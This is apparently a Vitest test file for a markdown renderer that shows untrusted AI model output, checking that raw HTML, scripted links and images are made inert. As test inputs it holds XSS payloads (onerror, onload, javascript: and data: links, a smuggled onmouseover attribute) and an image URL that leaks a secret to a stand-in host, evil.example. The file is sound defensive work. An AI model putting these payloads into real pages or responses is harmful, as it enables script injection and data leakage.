// @ts-check
import { describe, expect, it } from "vitest";
import { escapeHtml, highlight, renderMarkdown } from "../src/markdown.js";

/**
 * Parse rendered HTML into a detached container, the way the view inserts it.
 * @param {string} markdown
 */
function render(markdown) {
  const node = document.createElement("div");
  node.innerHTML = renderMarkdown(markdown);
  return node;
}

/** @param {Element} node */
const handlerAttributes = (node) =>
  [...node.querySelectorAll("*")]
    .flatMap((el) => [...el.attributes].map((a) => a.name))
    .filter((name) => name.startsWith("on"));

describe("untrusted model output is inert", () => {
  it.each([
    ["img onerror", '<img src=x onerror="window.__xss = 1">'],
    ["script", "<script>window.__xss = 1</script>"],
    [
      "inline html in a paragraph",
      'hello <b onmouseover="window.__xss=1">bold</b> <svg onload=alert(1)>',
    ],
    ["iframe", '<iframe src="javascript:alert(1)"></iframe>'],
    ["style", "<style>body { display: none }</style>"],
  ])("raw HTML (%s) is shown as text, not parsed", (_name, payload) => {
    const node = render(payload);
    expect(node.querySelector("img, script, iframe, style, svg, b")).toBeNull();
    expect(handlerAttributes(node)).toEqual([]);
    expect(node.textContent).toContain(payload.slice(0, 8));
  });

  it.each([
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  ])("dangerous link %s loses its href", (payload) => {
    const node = render(payload);
    for (const a of node.querySelectorAll("a")) {
      expect(a.getAttribute("href") ?? "").not.toMatch(/^\s*(javascript|vbscript|data):/i);
    }
  });

  it("keeps ordinary links and opens them safely", () => {
    const a = render("[docs](https://example.org/x)").querySelector("a");
    expect(a?.getAttribute("href")).toBe("https://example.org/x");
    expect(a?.getAttribute("target")).toBe("_blank");
    expect(a?.getAttribute("rel")).toContain("noopener");
  });

  it("never fetches markdown images", () => {
    const node = render("![pixel](https://evil.example/leak?q=secret)");
    expect(node.querySelector("img")).toBeNull();
    expect(node.textContent).toContain("[image: pixel]");
  });

  it("drops event handlers smuggled through markdown attributes", () => {
    const node = render('[x](https://a.example "t\\" onmouseover=\\"alert(1))');
    expect(handlerAttributes(node)).toEqual([]);
  });
});

describe("markdown", () => {
  it("renders emphasis, lists and tables", () => {
    const node = render("**bold** and *it*\n\n- a\n- b\n\n| h |\n|---|\n| c |\n");
    expect(node.querySelector("strong")?.textContent).toBe("bold");
    expect(node.querySelectorAll("li")).toHaveLength(2);
    expect(node.querySelector("td")?.textContent).toBe("c");
  });

  it("highlights fenced code of a known language", () => {
    const node = render("```python\ndef f(x):\n    return 1\n```");
    const code = node.querySelector("pre > code");
    expect(code?.className).toBe("hljs language-python");
    expect(code?.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(code?.textContent).toBe("def f(x):\n    return 1");
  });

  it("escapes code of an unknown language", () => {
    const node = render("```nosuchlang\n<img src=x onerror=alert(1)>\n```");
    expect(node.querySelector("img")).toBeNull();
    expect(node.querySelector("code")?.textContent).toContain("<img src=x");
  });

  it("renders an unclosed fence while it streams", () => {
    expect(render("```js\nconst a = 1").querySelector("pre code")?.textContent).toContain(
      "const a = 1",
    );
  });
});

describe("helpers", () => {
  it("escapeHtml escapes the five characters", () => {
    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe(
      "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;",
    );
  });

  it.each([
    ["", ""],
    ["  Python extra", "python"],
    ["nope", ""],
  ])("highlight language %j → %j", (lang, expected) => {
    expect(highlight("x = 1", lang).language).toBe(expected);
  });
});
